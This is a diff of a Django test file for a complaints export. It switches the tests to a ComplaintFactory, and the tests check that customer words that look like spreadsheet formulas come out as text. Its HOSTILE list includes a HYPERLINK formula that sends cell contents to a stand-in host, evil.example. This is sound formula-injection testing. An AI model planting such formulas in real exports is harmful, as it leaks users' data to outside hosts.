@@ -6,7 +6,7 @@ import io
 
 from django.utils import timezone
 
-from . import factories as f
+from tests.complaints.factories import ComplaintFactory
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -23,7 +23,9 @@ def _rows(browser, day):
 
 
 def test_customers_words_that_look_like_formulas_come_out_as_text(browser_as, advisor, shop):
-    complaints = [f.complaint(shop, by=advisor, words=words) for words in HOSTILE]
+    complaints = [
+        ComplaintFactory(shop=shop, user=advisor, customer_words=words) for words in HOSTILE
+    ]
     day = timezone.localtime(complaints[0].received_at).date()
     words = {row[0]: row[-1] for row in _rows(browser_as(advisor), day)[1:]}
     for complaint, hostile in zip(complaints, HOSTILE, strict=True):
@@ -31,7 +33,7 @@ def test_customers_words_that_look_like_formulas_come_out_as_text(browser_as, ad
 
 
 def test_plain_words_and_amounts_are_left_alone(browser_as, advisor, shop):
-    complaint = f.complaint(shop, by=advisor, words="Brakes squeal - again")
+    complaint = ComplaintFactory(shop=shop, user=advisor, customer_words="Brakes squeal - again")
     day = timezone.localtime(complaint.received_at).date()
     row = _rows(browser_as(advisor), day)[1]
     assert row[-1] == "Brakes squeal - again" and row[-2] == "0"
